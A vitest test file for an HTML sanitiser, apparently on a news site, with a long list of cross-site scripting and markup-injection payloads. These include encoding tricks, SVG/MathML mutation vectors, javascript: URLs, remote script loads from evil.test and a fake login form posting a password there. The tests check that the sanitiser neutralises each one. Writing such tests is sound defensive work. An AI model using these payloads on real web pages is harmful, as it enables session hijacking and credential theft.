import { describe, expect, onTestFinished, test } from 'vitest';
import { hasMarkup, plainText, sanitise } from './sanitise.ts';

declare global {
  interface Window {
    /** What a payload that runs would raise. */
    stolen?: number;
  }
}

/** Puts the clean nodes where they would run if they could, and lets them try. */
async function onPage(html: string): Promise<HTMLElement> {
  const place = document.createElement('div');
  place.append(await sanitise(html));
  document.body.append(place);
  onTestFinished(() => place.remove());
  for (const element of place.querySelectorAll('*')) {
    element.dispatchEvent(new MouseEvent('mouseover', { bubbles: true }));
    element.dispatchEvent(new FocusEvent('focus'));
  }
  await new Promise((resolve) => requestAnimationFrame(resolve));
  return place;
}

const attacks = [
  '<script>stolen = 1</script>',
  '<SCRIPT SRC=//evil.test/x.js></SCRIPT>',
  '<scr<script>ipt>stolen = 1</scr</script>ipt>',
  '<script/x>stolen = 1</script >',
  '"><script>stolen = 1</script>',
  '<img src=x onerror="stolen = 1">',
  '<img src=x onerror=stolen&#61;1>',
  '<img src="x` `<script>stolen = 1</script>"` `>',
  '<img/src=x/onerror=stolen=1//',
  '<IMG """><SCRIPT>stolen = 1</SCRIPT>"\\>',
  '<svg onload="stolen = 1">',
  '<svg><script>stolen = 1</script></svg>',
  '<svg><animate onbegin="stolen = 1" attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:stolen=1"><text y=20>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=stolen=1>#x"></use></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=stolen=1>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=1 onerror=stolen=1>">',
  '<math><mi//xlink:href="data:x,<script>stolen=1</script>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=stolen=1>',
  '<a href="javascript:stolen=1">x</a>',
  '<a href="JaVaScRiPt:stolen=1">x</a>',
  '<a href=" javascript:stolen=1">x</a>',
  '<a href="java\nscript:stolen=1">x</a>',
  '<a href="java&Tab;script:stolen=1">x</a>',
  '<a href="&#106;avascript:stolen=1">x</a>',
  '<a href="javascript&colon;stolen=1">x</a>',
  '<a href="\u0001javascript:stolen=1">x</a>',
  '<a href="javascript://localhost/%0astolen=1">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>stolen=1</script>">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5zdG9sZW49MTwvc2NyaXB0Pg==">x</a>',
  '<a href="blob:http://localhost/1">x</a>',
  '<a href="#" onclick="stolen = 1">x</a>',
  '<a href="#" ONMOUSEOVER=stolen=1>x</a>',
  '<a onfocus="stolen = 1" autofocus tabindex=1 href="#">x</a>',
  '<b style="background:url(javascript:stolen=1)">x</b>',
  '<b style="position:fixed;inset:0">x</b>',
  '<b id="portada-page" name="cookie" class="portada-login">x</b>',
  '<b data-state="off" aria-label="Entra" slot="x" part="y" is="z">x</b>',
  '<style>*{display:none}</style>',
  '<style>@import "//evil.test/x.css";</style>',
  '<link rel=stylesheet href="//evil.test/x.css">',
  '<link rel=import href="//evil.test/x.html">',
  '<base href="//evil.test/">',
  '<meta http-equiv="refresh" content="0;url=//evil.test">',
  '<iframe src="javascript:stolen=1"></iframe>',
  '<iframe srcdoc="<script>parent.stolen=1</script>"></iframe>',
  '<object data="javascript:stolen=1"></object>',
  '<embed src="javascript:stolen=1">',
  '<form action="//evil.test"><input name=password><button>Entra</button></form>',
  '<input onfocus="stolen = 1" autofocus>',
  '<button formaction="javascript:stolen=1">x</button>',
  '<textarea></textarea><select><option>x</select>',
  '<details open ontoggle="stolen = 1">x</details>',
  '<video src=x onerror="stolen = 1"><source onerror="stolen = 1"></video>',
  '<audio src onerror="stolen = 1">',
  '<body onload="stolen = 1">',
  '<marquee onstart="stolen = 1">x</marquee>',
  '<template><script>stolen = 1</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=stolen=1>"></noscript>',
  '<xmp><p title="</xmp><img src=x onerror=stolen=1>"></xmp>',
  '<portada-login></portada-login>',
  '<slot name=x></slot><dialog open>Entra</dialog>',
  '<!--><img src=x onerror=stolen=1>-->',
  '<![CDATA[<img src=x onerror=stolen=1>]]>',
  '<?xml version="1.0"?><b>x</b>',
  '<isindex type=image src=1 onerror=stolen=1>',
  '<table background="javascript:stolen=1"><td>x</table>',
  '<em><s><u><b onpointerrawupdate=stolen=1><i>x',
];

test.each(attacks)('[CARD-17] leaves nothing of %s that runs, catches or covers', async (html) => {
  delete window.stolen;
  const place = await onPage(html);
  for (const element of place.querySelectorAll('*')) {
    expect(element.localName).toMatch(/^(a|strong|em|s|b|i|u)$/);
    expect(element.namespaceURI).toBe('http://www.w3.org/1999/xhtml');
    for (const { name } of element.attributes) expect(name).toMatch(/^(href|target|rel)$/);
    if (element instanceof HTMLAnchorElement && element.hasAttribute('href')) {
      expect(element.protocol).toMatch(/^(https?|mailto|tel):$/);
    }
  }
  expect(window.stolen).toBeUndefined();
});

async function cleaned(html: string): Promise<string> {
  return (await onPage(html)).innerHTML;
}

describe('what a text may carry', () => {
  test.each([
    'Nada más que texto',
    '<strong>a</strong> <em>b</em> <s>c</s> <b>d</b> <i>e</i> <u>f</u>',
    '<a href="https://diari.test/a?b=1&amp;c=2#d">x</a>',
    '<a href="/cultura/">x</a><a href="#final">y</a><a href="mailto:a@b.es">z</a>',
    '<em>Menorca, <strong>l’illa <u>blanca</u></strong></em>',
    'A &lt;b&gt; C &amp; D',
  ])('[CARD-17] is kept as it is: %s', async (html) => {
    expect(await cleaned(html)).toBe(html);
  });

  test('[CARD-17] the text inside other markup stays', async () => {
    expect(await cleaned('<p class="x">Uno <span>dos</span></p><h2>tres</h2>')).toBe('Uno dostres');
  });

  test('[CARD-17] a link that opens elsewhere gives away neither its opener nor its page, and keeps its own rel', async () => {
    const place = await onPage('<a href="https://a.test/" target="_blank" rel="sponsored opener">x</a>');
    const link = place.querySelector('a');
    expect(link?.target).toBe('_blank');
    expect([...(link?.relList ?? [])]).toEqual(
      expect.arrayContaining(['sponsored', 'noopener', 'noreferrer']),
    );
  });

  test('[CARD-17] a link that stays keeps its rel untouched', async () => {
    expect(await cleaned('<a href="/a" rel="nofollow">x</a>')).toBe('<a href="/a" rel="nofollow">x</a>');
  });
});

test.each([
  ['Butlletí <b>del matí</b>', true, 'Butlletí del matí'],
  ['Pa &amp; oli', true, 'Pa &amp; oli'],
  ['Butlletí', false, 'Butlletí'],
  ['3 > 2', false, '3 > 2'],
  ['<img src=x onerror=stolen=1>', true, ''],
])('whether %j needs the sanitiser: %s', (text, needs, plain) => {
  expect(hasMarkup(text)).toBe(needs);
  expect(plainText(text)).toBe(plain);
});
